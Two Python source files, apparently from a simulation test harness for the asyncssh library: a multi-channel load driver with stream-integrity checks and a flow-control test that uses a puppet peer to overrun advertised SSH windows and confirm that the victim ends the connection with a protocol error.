                ep.got(data, STDERR if dt else None)
                k += 1

                if k in pauses:
                    self.sim.probes['reader_paused'] += 1
                    await self.sim.pause('rd:' + ep.name)
        except (asyncssh.Error, OSError, asyncio.IncompleteReadError) as exc:
            ep.read_exc = exc
            ep.world.event(ep.name, 'read-exc', type(exc).__name__)

    # -- writers ---------------------------------------------------------------------------

    async def writer_task(self, ep, ops, tagdir):
        """Issue the write program of one side of one channel"""

        i = int(ep.name[1:])
        text = ep.text
        await ep.started

        for op in ops:
            chan = ep.chan

            if chan is None or ep.lost_count:
                break

            if op[0] == 'w':
                n, dt = op[1], op[2]
                tag = '%s%d.%d' % (tagdir, i, dt)
                off = ep.sent[dt]

                if ep.mixed_bytes:
                    data = mixed_stream(tag, off + n)[off:off + n]
                    self.sim.probes['mixed_mode_write'] += 1
                else:
                    data = gen_text(tag, off, n) if text else \
                        gen_bytes(tag, off, n)

                ep.sent[dt] += n

                try:
                    if dt:
                        chan.write(data, STDERR)
                    else:
                        chan.write(data)
                except (OSError, asyncssh.Error, BrokenPipeError) as exc:
                    ep.write_exc = exc
                    ep.sent[dt] -= n
                    break
            elif op[0] == 'eof':
                if ep.mixed_bytes and not ep.ch.get('cut_at_eof'):
                    # finish a character that was cut before signalling EOF
                    for dt in (0, 1):
                        tag = '%s%d.%d' % (tagdir, i, dt)
                        off = ep.sent[dt]
                        full = mixed_stream(tag, off + 4)
                        end = off

                        while end < len(full) and \
                                (full[end] & 0xc0) == 0x80:
                            end += 1

                        if end > off:
                            try:
                                chan.write(full[off:end],
                                           *([STDERR] if dt else []))
                                ep.sent[dt] = end
                            except (OSError, asyncssh.Error):
                                pass

                try:
                    chan.write_eof()
                    ep.sent_eof = True
                except (OSError, asyncssh.Error) as exc:
                    ep.write_exc = exc

                if len(op) > 1 and op[1] == 'close':
                    # close() gives up what this side has not received yet:
                    # the other direction is then only checked as a prefix
                    ep.closed_early = True
                    self.sim.probes['closed_behind_eof'] += 1
                    chan.close()

                break
            else:
                await self.sim.pause('wr:' + ep.name)

    # -- main ----------------------------------------------------------------------------------

    async def main(self):
        world, plan, sim = self.world, self.plan, self.sim
        algs = plan.get('algs') or {}
        tenc = dict(encoding='utf-8', errors=plan.get('errors', 'strict')) \
            if plan.get('text') else dict(encoding=None)
        senc = dict(encoding=None) if plan.get('mixed') else tenc
        sopts = server_opts(window=plan['srv_window'],
                            max_pktsize=plan['srv_pktsize'], **senc, **algs)
        sopts.update(self.extra_server_opts)
        copts = client_opts(**algs)
        copts.update(self.extra_client_opts)

        def server_factory():
            self.server_owner = ChanServer(world)
            return self.server_owner

        def client_factory():
            self.client = RecClient(world)
            return self.client

        self.acceptor = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=server_factory, **sopts)
        try:
            self.conn = conn = await asyncssh.connect(
                '127.0.0.1', 22, client_factory=client_factory, **copts)
        except Exception as exc: # pylint: disable=broad-except
            # only faults can cause this; each check decides what it means
            self.connect_error = exc
            world.event('main', 'connect-failed', type(exc).__name__)
            await world.gate('io-done')
            self.acceptor.close()
            await self.acceptor.wait_closed()
            self.phase = 'done'
            return

        self.phase = 'open'

        for i, ch in enumerate(plan['channels']):
            cep = self.eps[('c', i)]
            sep = self.eps[('s', i)]
            kw = dict(window=ch['window'], max_pktsize=ch['pktsize'],
                      **(tenc if ch['kind'] == 'session'
                         else dict(encoding=None)))

            try:
                if ch['kind'] == 'session':
                    # server maps sessions by open order
                    order = self._session_order.index(i)

                    if order != self.next_session:
                        # an earlier open died before reaching the server
                        # (the connection is going away): give up on this one
                        raise OSError('earlier session open was lost')

                    if ch['reader_c'] == 'stream':
                        w, r, e = await conn.open_session(command='c%d' % i,
                                                          **kw)
                        cep.chan = w.channel
                        cep.writer = w
                        cep.started.set_result(None)
                        self.readers.append(sim.track(
                            'rd-c%d' % i, self.stream_reader(cep, r, 0)))
                        self.readers.append(sim.track(
                            'rde-c%d' % i, self.stream_reader(cep, e, 1)))
                    else:
                        chan, _ = await conn.create_session(
                            lambda cep=cep: ClientCb(cep), command='c%d' % i,
                            **kw)
                else:
                    if ch['reader_c'] == 'stream':
                        r, w = await conn.open_connection('dest', 1000 + i,
                                                          **kw)
                        cep.chan = w.channel
                        cep.writer = w
                        self.readers.append(sim.track(
                            'rd-c%d' % i, self.stream_reader(cep, r, 0)))
                    else:
                        chan, _ = await conn.create_connection(
                            lambda cep=cep: TcpCb(cep), 'dest', 1000 + i,
                            **kw)

                    if ch['reader_c'] == 'stream' and not cep.started.done():
                        cep.started.set_result(None)
            except Exception as exc: # pylint: disable=broad-except
                self.open_errors.append((i, exc))
                world.event('c%d' % i, 'open-failed', type(exc).__name__)
                continue

            self.opened.append(i)
            self.writers.append(sim.track(
                'wr-c%d' % i, self.writer_task(cep, ch['c2s'], 'c2s')))
            self.writers.append(sim.track(
                'wr-s%d' % i, self.writer_task(sep, ch['s2c'], 's2c')))

        self.phase = 'io'
        await world.gate('io-done')
        self.phase = 'close'
        closer = plan.get('closer', 'client')

        for i in self.opened:
            for side in ('c', 's'):
                if closer in ('both', 'client' if side == 'c' else 'server'):
                    ep = self.eps[(side, i)]

                    if ep.chan is not None:
                        ep.chan.close()

        if closer in ('client', 'both'):
            for i in self.opened:
                ep = self.eps[('c', i)]

                if ep.chan is not None:
                    await ep.chan.wait_closed()

        conn.close()
        await conn.wait_closed()
        self.acceptor.close()
        await self.acceptor.wait_closed()
        self.phase = 'done'

    # -- oracles -------------------------------------------------------------------------------

    def tcp_started_fixup(self):
        """TCP callback sessions have no session_started on the server side:
           connection_made is enough to start writing"""

    def check_streams(self, require_complete=True):
        """C07 core oracle: delivered == written per stream, EOF iff sent"""

        world = self.world

        for i in self.opened:
            ch = self.plan['channels'][i]

            for (wside, rside, tagdir) in (('c', 's', 'c2s'),
                                           ('s', 'c', 's2c')):
                wep = self.eps[(wside, i)]
                rep = self.eps[(rside, i)]
                want_complete = require_complete

                if rep.closed_early:
                    # the receiver closed its channel itself
                    require_complete = False

                for dt in (0, 1):
                    n = wep.sent[dt]
                    tag = '%s%d.%d' % (tagdir, i, dt)
                    want = gen_text(tag, 0, n) if ch['text'] else \
                        gen_bytes(tag, 0, n)

                    if ch['text'] and ch.get('mixed'):
                        if wside == 'c':
                            # text written, bytes received
                            want = want.encode('utf-8')
                        else:
                            # n bytes written (possibly ending inside a
                            # character), text received: a torso at the
                            # very end is withheld while the stream is open
                            # and replaced once EOF says nothing will follow
                            want = mixed_stream(tag, n)[:n].decode(
                                'utf-8', 'replace' if ch.get('cut_at_eof')
                                and wep.sent_eof and rep.eof else 'ignore')

                            if ch.get('cut_at_eof') and wep.sent_eof and \
                                    want.endswith('\ufffd'):
                                self.sim.probes['stream_cut_in_character'] \
                                    += 1

                    got = rep.joined(dt)

                    if got != want:
                        if not require_complete and \
                                want[:len(got)] == got:
                            continue

                        d = first_diff(got, want)
                        kind = 'stream-short' if want[:len(got)] == got \
                            else 'stream-mismatch'
                        world.violation(
                            kind,
                            'chan %d %s dt=%d: written %d units, delivered '
                            '%d, first difference at %d (chan plan %r)' %
                            (i, tagdir, dt, len(want), len(got), d,
                             {k: ch[k] for k in ('kind', 'text', 'window',
                                                 'pktsize', 'reader_c',
                                                 'reader_s')}))

                if require_complete and wep.sent_eof != rep.eof:
                    world.violation(
                        'eof-mismatch',
                        'chan %d %s: sender eof=%s receiver eof=%s' %
                        (i, tagdir, wep.sent_eof, rep.eof))

                if not require_complete and rep.eof and not wep.sent_eof \
                        and not rep.closed_early:
                    world.violation(
                        'eof-mismatch',
                        'chan %d %s: EOF reported but never sent' %
                        (i, tagdir))

                if rep.after_eof:
                    world.violation('after-eof',
                                    'chan %d %s: %r delivered after EOF' %
                                    (i, tagdir, rep.after_eof[:3]))

                require_complete = want_complete

    def check_lost(self):
        for key, ep in sorted(self.eps.items()):
            if ep.after_lost:
                self.world.violation(
                    'after-lost', '%s: callbacks after connection_lost: %r' %
                    (ep.name, ep.after_lost[:3]))

            if ep.lost_count > 1:
                self.world.violation(
                    'lost-twice', '%s: connection_lost called %d times' %
                    (ep.name, ep.lost_count))


def run_channels(plan, sched_seed=None, sched_replay=None, setup=None,
                 between=None, finish=None, extra_server_opts=None,
                 extra_client_opts=None):
    """Standard two-phase run.  `setup(world, run)` may install wires/taps
       before start; `between(world, run)` runs at the quiescent point after
       the I/O phase; `finish(world, run)` after the close phase."""

    world = World(plan, sched_seed, sched_replay)
    world.servers = []
    run = ChanRun(world, plan, extra_server_opts, extra_client_opts)

    if setup is not None:
        setup(world, run)

    world.start(run.main())
    world.run_phase()

    if between is not None:
        if not isinstance(between, (list, tuple)):
            between = [between]

        for fn in between:
            # each stage runs at a quiescent point; a stage that starts more
            # work returns True to have the world run to quiescence again
            if fn(world, run) and not world.sim.loop.capped:
                world.run_phase()

    if not world.sim.loop.capped and not world.sim.main.done():
        world.open_gate('io-done')
        world.run_phase()

    if finish is not None:
        finish(world, run)

    return world, run
