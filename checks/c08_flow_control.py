"""C08 -- flow control is honoured both ways and never deadlocks."""

import asyncssh

from simkit.models import window as wmodel
from simkit.sshwire import u32, string
from . import chanload

ID = 'C08'
NAME = 'flow_control'
QUICK_S = 40
THOROUGH_S = 900
CHUNK = 30

RULE = ('Two populations. honest: the C07 multi-channel workload biased to '
        'tiny windows/packets and paused readers; a reference window model '
        'replays each endpoint\'s ordered packet tap and checks every DATA '
        'sent against initial+adjusts received so far and the peer max packet '
        'size; liveness = no writer pending and all data delivered at '
        'quiescence. hostile: after the honest phase one side (a puppet '
        'driving asyncssh\'s own transport with raw CHANNEL_DATA / '
        'WINDOW_ADJUST, bypassing its flow control) overruns the victim\'s '
        'advertised window in one packet or in several window-sized packets, '
        'with the victim reading, paused (callback) or simply not reading '
        '(stream); the victim must end the connection with a protocol error '
        'at the first excess packet and deliver none of the excess. '
        'Non-trivial = data flowed or an attack packet was sent; distinct = '
        '(plan, schedule, trace) signature.')

ASSUMPTIONS = chanload_assume = [
    'simulated event loop admits exactly asyncio-legal executions',
    'the hostile peer is a puppet built on asyncssh\'s own transport layer '
    '(raw send_packet), the victim endpoint is unmodified asyncssh',
    'window model derives advertised windows from the OPEN/CONFIRMATION/'
    'WINDOW_ADJUST packets the endpoint itself sent (tap log)',
]

REAL = ['asyncssh channel/connection/stream code of both endpoints',
        'PyCA cryptography']
STUB = ['event loop + clock', 'TCP sockets/listener', 'DNS', 'executor',
        'OS randomness', 'hostile peer = puppet over asyncssh transport']
PROBES = ['reader_paused', 'window_zero_seen', 'attack_paused',
          'attack_reading', 'attack_stream_victim', 'attack_single_big',
          'attack_multi', 'adjust_seen', 'victim_protocol_error',
          'attack_victim_closes']

valid_plan_base = chanload.valid_plan


def valid_plan(plan):
    if not valid_plan_base(plan):
        return False

    att = plan.get('attack')

    if att:
        try:
            if att['chan'] >= len(plan['channels']) or not att['pkts']:
                return False

            if any(p[0] == 'd' and p[1] < 0 for p in att['pkts']):
                return False
        except (KeyError, TypeError, IndexError):
            return False

    return True


def gen_plan(rng):
    plan = chanload.gen_plan(rng, max_channels=3)

    # bias to small windows / heavy pausing
    for ch in plan['channels']:
        if rng.chance(50):
            ch['window'] = rng.choice([1, 2, 3, 8, 64, 300])

        if rng.chance(50):
            ch['pause_c'] = sorted(rng.sample(range(1, 30), 6))
            ch['pause_s'] = sorted(rng.sample(range(1, 30), 6))

    if rng.chance(50):
        plan['srv_window'] = rng.choice([1, 2, 3, 8, 64, 300])

    if rng.chance(55):
        i = rng.below(len(plan['channels']))
        ch = plan['channels'][i]
        hostile = rng.choice(['c', 's'])
        w = plan['srv_window'] if hostile == 'c' else ch['window']
        w = min(w, 70000)
        style = rng.below(6)

        if style == 0:
            pkts = [['d', w + 1]]
        elif style == 1:
            pkts = [['d', w], ['d', 1]]
        elif style == 2:
            k = rng.between(2, 5)
            pkts = [['d', w]] * k
        elif style == 3:
            pkts = [['d', max(1, w // 2)] for _ in range(rng.between(3, 6))]
        elif style == 4:
            pkts = [['d', rng.between(1, w + 2)]
                    for _ in range(rng.between(1, 8))]
        else:
            pkts = [['d', w], ['a', rng.choice([0, 1, w, 0xffffffff])],
                    ['d', w], ['d', w]]

        pkts = [list(p) for p in pkts]

        # yields between packets let the scheduler interleave deliveries
        out = []

        for p in pkts:
            out.append(p)

            if rng.chance(40):
                out.append(['y'])

        if rng.chance(25):
            out.insert(rng.below(len(out) + 1), ['resume'])

        if rng.chance(20):
            # the victim closes its channel in the middle of it (what it had
            # buffered is discarded): the window it advertised stays what it
            # was
            out.insert(rng.below(len(out) + 1), ['close'])

        plan['attack'] = {
            'hostile': hostile, 'chan': i,
            'victim_state': rng.choice(['paused', 'paused', 'reading']),
            'ext': hostile == 's' and ch['kind'] == 'session' and
            rng.chance(30),
            'pkts': out,
        }

        # the victim must keep its channel open for the attack phase
        for side in ('c2s', 's2c'):
            ch[side] = [op for op in ch[side] if op[0] != 'eof']

    return chanload.clamp_plan(plan)


def run_plan(plan, sched_seed=None, sched_replay=None):
    att = plan.get('attack')
    state = {'attack_sent': 0, 'attack_done': False, 'victim_delivered0': 0}

    def honest_stage(world, run):
        if world.sim.loop.capped:
            return False

        pending = [t.sim_name for t in run.writers if not t.done()]

        if pending:
            world.violation('stall', 'every reader keeps reading (pauses '
                            'always resume) yet writers never finished: %r'
                            % pending[:6])

        run.check_streams(require_complete=True)

        # nothing may still sit in a channel send buffer
        for (side, i), ep in sorted(run.eps.items()):
            chan = ep.chan

            if chan is not None and i in run.opened:
                try:
                    n = chan.get_write_buffer_size()
                except Exception: # pylint: disable=broad-except
                    n = 0

                if n and not ep.lost_count:
                    world.violation('stall', '%s: %d bytes still buffered '
                                    'for sending at quiescence' %
                                    (ep.name, n))

        return False

    def attack_stage(world, run):
        if not att or world.sim.loop.capped or world.violations:
            return False

        i = att['chan']

        if i not in run.opened:
            return False

        hside = att['hostile']
        vside = 's' if hside == 'c' else 'c'
        hep, vep = run.eps[(hside, i)], run.eps[(vside, i)]
        hchan, vchan = hep.chan, vep.chan

        if hchan is None or vchan is None or hep.lost_count or \
                vep.lost_count:
            return False

        hconn = run.conn if hside == 'c' else run.server_owner.conn
        send_chan = hchan._send_chan

        if send_chan is None:
            return False

        vreader = plan['channels'][i]['reader_' + vside]
        sim = world.sim
        state['victim_delivered0'] = len(vep.joined(0)) + len(vep.joined(1))
        state['vep'] = vep
        state['active'] = True
        paused = att['victim_state'] == 'paused'

        if paused:
            if vreader == 'cb':
                vchan.pause_reading()
                sim.probes['attack_paused'] += 1
            else:
                vep.hold = sim.loop.create_future()
                sim.probes['attack_stream_victim'] += 1
        else:
            sim.probes['attack_reading'] += 1

        async def attack():
            for p in att['pkts']:
                if hconn._transport is None:
                    break

                if p[0] == 'd':
                    data = b'A' * p[1]

                    if att.get('ext'):
                        hconn.send_packet(95, u32(send_chan), u32(1),
                                          string(data))
                    else:
                        hconn.send_packet(94, u32(send_chan), string(data))

                    state['attack_sent'] += 1
                elif p[0] == 'a':
                    hconn.send_packet(93, u32(send_chan), u32(p[1]))
                elif p[0] == 'close':
                    sim.probes['attack_victim_closes'] += 1
                    vchan.close()
                elif p[0] == 'resume':
                    if vreader == 'cb':
                        vchan.resume_reading()
                    elif vep.hold is not None and not vep.hold.done():
                        vep.hold.set_result(None)
                else:
                    await sim.pause('attack')

            state['attack_done'] = True

        sim.track('attack', attack())
        return True

    def attack_verdict(world, run):
        if not state.get('active'):
            return False

        vep = state['vep']
        vside = vep.side
        label_conn = run.server_owner.conn if vside == 's' else run.conn
        label = getattr(label_conn, '_sim_label', None)
        pkts = world.sim.pkts.get(label, [])
        _sv, overruns, chans = wmodel.audit(pkts)
        owner = run.server_owner if vside == 's' else run.client
        sim = world.sim

        if len(att['pkts']) == 1:
            sim.probes['attack_single_big'] += 1
        else:
            sim.probes['attack_multi'] += 1

        if overruns:
            idx, lchan, n, room = overruns[0]
            sim.probes['overrun_sent'] += 1
            legit = chans[lchan].legit_recv
            delivered = len(vep.joined(0)) + len(vep.joined(1))
            exc = owner.lost[0] if owner.lost else None

            if not isinstance(exc, asyncssh.ProtocolError):
                world.violation(
                    'window-not-enforced',
                    'peer sent %d bytes with %d left of the advertised '
                    'window (victim %s, %s, reader %s) and the victim did '
                    'not end the connection with a protocol error '
                    '(connection_lost: %r)' %
                    (n, room, vep.name, att['victim_state'],
                     plan['channels'][att['chan']]['reader_' + vside], exc),
                    sig='paused' if att['victim_state'] == 'paused'
                    else 'reading')
            else:
                sim.probes['victim_protocol_error'] += 1

            # text channels count characters: skip the byte comparison there
            if not plan['channels'][att['chan']]['text'] and \
                    delivered > legit:
                world.violation(
                    'excess-delivered',
                    '%s: application received %d bytes, only %d were within '
                    'the advertised window' % (vep.name, delivered, legit),
                    sig='paused' if att['victim_state'] == 'paused'
                    else 'reading')
        else:
            # attack stayed within the window: victim must still be alive
            if owner.lost and state['attack_sent']:
                exc = owner.lost[0]

                if isinstance(exc, asyncssh.ProtocolError) and \
                        'indow' in str(exc):
                    world.violation(
                        'false-window-error',
                        'victim reported %r although the peer stayed within '
                        'the advertised window' % (exc,))

        # release the victim's reader so the close phase can finish
        if vep.hold is not None and not vep.hold.done():
            vep.hold.set_result(None)

        if vep.chan is not None and not vep.lost_count:
            try:
                vep.chan.resume_reading()
            except Exception: # pylint: disable=broad-except
                pass

        return True

    def finish(world, run):
        run.check_lost()
        sim = world.sim
        hostile_label = None

        if att and state.get('active'):
            hconn = run.conn if att['hostile'] == 'c' \
                else run.server_owner.conn
            hostile_label = getattr(hconn, '_sim_label', None)

        for label, pkts in sorted(sim.pkts.items()):
            sv, _ov, chans = wmodel.audit(pkts)

            for c in chans.values():
                if c.hit_zero:
                    sim.probes['window_zero_seen'] += 1

            if any(t == 93 for _d, t, *_ in pkts):
                sim.probes['adjust_seen'] += 1

            if label == hostile_label:
                continue

            for idx, text in sv[:3]:
                world.violation('sender-exceeds', '%s packet #%d: %s' %
                                (label, idx, text))

        world.check_loop_health(internal_errors=True)

    world, run = chanload.run_channels(
        plan, sched_seed, sched_replay,
        between=[honest_stage, attack_stage, attack_verdict], finish=finish)

    total = sum(ep.sent[0] + ep.sent[1] for ep in run.eps.values())

    if run.connect_error is not None:
        world.violation('connect-failed', 'connect() failed without any '
                        'fault: %r' % (run.connect_error,))

    for err in run.open_errors:
        world.violation('open-failed', 'channel %d failed to open: %r' % err)

    sample = {'channels': [{k: ch[k] for k in ('kind', 'window', 'pktsize',
                                               'reader_c', 'reader_s')}
                           for ch in plan['channels']],
              'srv_window': plan['srv_window'],
              'srv_pktsize': plan['srv_pktsize'],
              'attack': att, 'units_written': total}

    return world.result(nontrivial=total > 0 or state['attack_sent'] > 0,
                        sample=sample)
